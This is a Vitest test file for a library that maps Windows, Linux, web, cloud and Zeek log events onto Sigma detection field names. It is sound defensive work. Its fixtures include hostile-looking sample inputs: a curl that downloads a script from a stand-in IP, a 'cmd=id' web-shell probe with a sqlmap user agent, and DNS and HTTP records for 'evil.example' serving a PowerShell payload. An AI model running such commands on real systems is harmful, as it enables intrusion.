import { describe, expect, it } from 'vitest';
import { sigmaEventFor } from './field-mapping.ts';
import * as ev from './test-events.ts';
import { hashFrom, withValueForms } from './value-forms.ts';

describe('sigmaEventFor: Windows', () => {
  it('resolves Sysmon EventData and System names', () => {
    const s = sigmaEventFor(ev.sysmonProcessCreate);
    expect(s.get('Image')).toBe('C:\\Windows\\System32\\cmd.exe');
    expect(s.get('CommandLine')).toBe('cmd.exe /c whoami');
    expect(s.get('ParentImage')).toBe('C:\\Windows\\explorer.exe');
    expect(s.get('EventID')).toBe(1);
    expect(s.get('Channel')).toBe('Microsoft-Windows-Sysmon/Operational');
    expect(s.get('Provider_Name')).toBe('Microsoft-Windows-Sysmon');
    expect(s.get('Computer')).toBe('WS01.corp.local');
    expect(s.get('ParentCommandLine')).toBeUndefined();
    expect(s.get('LogonId')).toBe('0x3e7'); // already in the form rules use
  });

  it('reads the taxonomy hash fields out of Hashes', () => {
    const s = sigmaEventFor(ev.sysmonProcessCreate);
    expect(s.get('Imphash')).toBe('E96A73C7BF33A464C510EDE582318BF2');
    expect(s.get('md5')).toBe('CCF1D1573F175299ADE01C07791A6541');
    expect(s.get('sha256')).toBeUndefined();
  });

  it('gives GUIDs with and without braces', () => {
    const s = sigmaEventFor(ev.sysmonProcessCreate);
    expect(s.get('ProcessGuid')).toEqual(['{9cf03291-8c56-d23c-92ad-325a1a4db816}', '9cf03291-8c56-d23c-92ad-325a1a4db816']);
  });

  it('maps Sysmon names onto Security 4688 (NewProcessName → Image ...), with decimal ids and integrity names', () => {
    const s = sigmaEventFor(ev.security4688);
    expect(s.get('Image')).toBe('C:\\Windows\\System32\\whoami.exe');
    expect(s.get('ParentImage')).toBe('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
    expect(s.get('CommandLine')).toBe('"C:\\windows\\system32\\whoami.exe" /user');
    expect(s.get('ProcessId')).toEqual(['0x73c', '1852']);
    expect(s.get('ParentProcessId')).toEqual(['0x1d20', '7456']);
    expect(s.get('IntegrityLevel')).toEqual(['S-1-16-12288', 'High']);
    expect(s.get('User')).toBe('THESHIRE\\pgustavo');
    expect(s.get('LogonId')).toBe('0x10a7df');
    expect(s.get('NewProcessName')).toBe('C:\\Windows\\System32\\whoami.exe'); // the Security names still work
    expect(s.get('EventID')).toBe(4688);
  });

  it('resolves logon fields of 4624', () => {
    const s = sigmaEventFor(ev.security4624);
    expect(s.get('LogonType')).toBe('3');
    expect(s.get('TargetUserName')).toBe('alice');
    expect(s.get('IpAddress')).toBe('10.0.0.7');
    expect(s.get('ProcessId')).toBeUndefined();
  });

  it('joins unnamed EventData as Data', () => {
    const s = sigmaEventFor(ev.powershellClassic400);
    expect(s.get('Data')).toEqual(['Available', 'None', expect.stringContaining('HostApplication=powershell.exe -version 2')]);
    expect(s.get('EventID')).toBe(400);
  });

  it('offers the EventData values to keyword searches, not the ECS copies', () => {
    const keywords = sigmaEventFor(ev.sysmonProcessCreate).keywords();
    expect(keywords).toContain('cmd.exe /c whoami');
    expect(keywords).toContain('CORP\\alice');
    expect(keywords).not.toContain('alice'); // user.name, an ECS copy
    expect(keywords).not.toContain('Microsoft-Windows-Sysmon/Operational');
  });
});

describe('sigmaEventFor: Linux, cloud, web, Zeek, generic JSON', () => {
  it('resolves auditd names and their ECS equivalents', () => {
    const execve = sigmaEventFor(ev.auditdExecve);
    expect(execve.get('type')).toBe('EXECVE');
    expect(execve.get('a0')).toBe('curl');
    expect(execve.get('a2')).toBe('http://203.0.113.9/x.sh');
    expect(execve.get('CommandLine')).toBe('curl -s http://203.0.113.9/x.sh');
    const syscall = sigmaEventFor(ev.auditdSyscall);
    expect(syscall.get('exe')).toBe('/usr/bin/curl');
    expect(syscall.get('Image')).toBe('/usr/bin/curl');
    expect(syscall.get('SYSCALL')).toBe('execve');
    expect(syscall.get('key')).toBe('net_tools');
  });

  it('resolves syslog fields through ECS and keywords through the message', () => {
    const s = sigmaEventFor(ev.sshdFailure);
    expect(s.get('User')).toBe('root');
    expect(s.keywords()).toContain('Failed password for root from 203.0.113.9 port 4000 ssh2');
  });

  it('resolves W3C names on access logs', () => {
    const s = sigmaEventFor(ev.nginxAccess);
    expect(s.get('cs-method')).toBe('GET');
    expect(s.get('cs-uri-query')).toBe('cmd=id');
    expect(s.get('cs-uri-stem')).toBe('/admin/config.php');
    expect(s.get('c-uri')).toBe('/admin/config.php?cmd=id');
    expect(s.get('c-uri-extension')).toBe('php');
    expect(s.get('sc-status')).toBe(404);
    expect(s.get('c-useragent')).toBe('sqlmap/1.7');
    expect(s.get('cs-user-agent')).toBe('sqlmap/1.7');
    expect(s.get('c-ip')).toBe('203.0.113.9');
    expect(s.get('cs-cookie')).toBeUndefined();
  });

  it('resolves CloudTrail names, nested objects and arrays of objects', () => {
    const s = sigmaEventFor(ev.cloudTrailLogin);
    expect(s.get('eventName')).toBe('ConsoleLogin');
    expect(s.get('eventSource')).toBe('signin.amazonaws.com');
    expect(s.get('userIdentity.arn')).toBe('arn:aws:iam::123456789012:user/alice');
    expect(s.get('responseElements.ConsoleLogin')).toBe('Failure');
    expect(s.get('requestParameters.containerDefinitions.command')).toEqual(['sh', '-c', 'curl x']);
    expect(s.get('responseElements')).toBe('{"ConsoleLogin":"Failure"}');
    expect(s.get('errorCode')).toBeUndefined();
  });

  it('resolves Okta and GitHub names', () => {
    const okta = sigmaEventFor(ev.oktaEvent);
    expect(okta.get('eventType')).toBe('user.session.start');
    expect(okta.get('outcome.result')).toBe('FAILURE');
    expect(okta.get('actor.alternateId')).toBe('alice@example.com');
    expect(okta.get('target.displayName')).toBe('Bob');
    expect(sigmaEventFor(ev.gitHubEvent).get('action')).toBe('repo.destroy');
  });

  it('resolves Zeek names, including dotted ones, and proxy names on http.log', () => {
    const dns = sigmaEventFor(ev.zeekDns);
    expect(dns.get('query')).toBe('evil.example');
    expect(dns.get('id.orig_h')).toBe('10.0.0.5');
    expect(dns.get('id.resp_p')).toBe(53);
    expect(dns.get('answers')).toEqual(['198.51.100.1']);
    const http = sigmaEventFor(ev.zeekHttp);
    expect(http.get('uri')).toBe('/payload.ps1?x=1');
    expect(http.get('c-uri')).toBe('/payload.ps1?x=1');
    expect(http.get('c-uri-extension')).toBe('ps1');
    expect(http.get('c-useragent')).toBe('curl/8.0');
    expect(http.get('cs-host')).toBe('evil.example');
  });

  it('resolves generic JSON by name, nesting, Azure properties and any case', () => {
    const s = sigmaEventFor(ev.azureSignIn);
    expect(s.get('operationName')).toBe('Sign-in activity');
    expect(s.get('ResultType')).toBe('50126'); // properties.ResultType
    expect(s.get('AuthenticationRequirement')).toBe('singleFactorAuthentication');
    expect(s.get('OperationName')).toBe('Sign-in activity'); // case differs
    expect(s.get('Status.errorCode')).toBe(50126);
    const mac = sigmaEventFor(ev.macProcessStart);
    expect(mac.get('Image')).toBe('/usr/bin/osascript');
    expect(mac.get('CommandLine')).toBe('osascript -e "display dialog"');
  });
});

describe('value forms', () => {
  it('adds the other form of hex and decimal ids only when needed', () => {
    expect(withValueForms('0x1F4', 'decimal')).toEqual(['0x1F4', '500']);
    expect(withValueForms('500', 'decimal')).toBe('500');
    expect(withValueForms(999, 'hex')).toEqual([999, '0x3e7']);
    expect(withValueForms('3221225572', 'hex')).toEqual(['3221225572', '0xc0000064']);
    expect(withValueForms('0xc0000064', 'hex')).toBe('0xc0000064');
    expect(withValueForms('not a guid', 'guid')).toBe('not a guid');
    expect(withValueForms('9cf03291-8c56-d23c-92ad-325a1a4db816', 'guid')).toEqual(['9cf03291-8c56-d23c-92ad-325a1a4db816', '{9cf03291-8c56-d23c-92ad-325a1a4db816}']);
  });

  it('finds a hash only at an algorithm boundary', () => {
    expect(hashFrom('SHA256=AB,IMPHASH=CD', 'SHA256')).toBe('AB');
    expect(hashFrom('SHA256=AB,IMPHASH=CD', 'IMPHASH')).toBe('CD');
    expect(hashFrom('XSHA1=AB', 'SHA1')).toBeUndefined();
  });
});
